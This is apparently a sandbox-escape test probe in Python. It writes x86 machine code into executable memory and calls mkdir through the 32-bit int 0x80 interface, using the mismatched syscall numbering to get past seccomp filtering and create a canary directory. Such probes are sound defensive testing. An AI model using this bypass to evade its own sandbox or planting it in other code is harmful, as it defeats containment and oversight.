"""Makes a folder by a system call of 32 bits, whose numbers mean other things.

verdict: not fixed
stopped by: seccomp, landlock
success: canary
on: x86_64
"""

import ctypes
import mmap
import platform

MKDIR, LOW = 39, 0x40
if platform.machine() == "x86_64":
    room = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | LOW, prot=7)
    place = ctypes.addressof(ctypes.c_char.from_buffer(room))
    path = (place + 100).to_bytes(4, "little")
    room[100:] = b"@CANARY@.d".ljust(3996, b"\0")
    room[:20] = b"\x53\xb8" + MKDIR.to_bytes(4, "little") + b"\xbb" + path + b"\xb9\xff\1\0\0\xcd\x80\x5b\xc3"
    ctypes.CFUNCTYPE(ctypes.c_int)(place)()
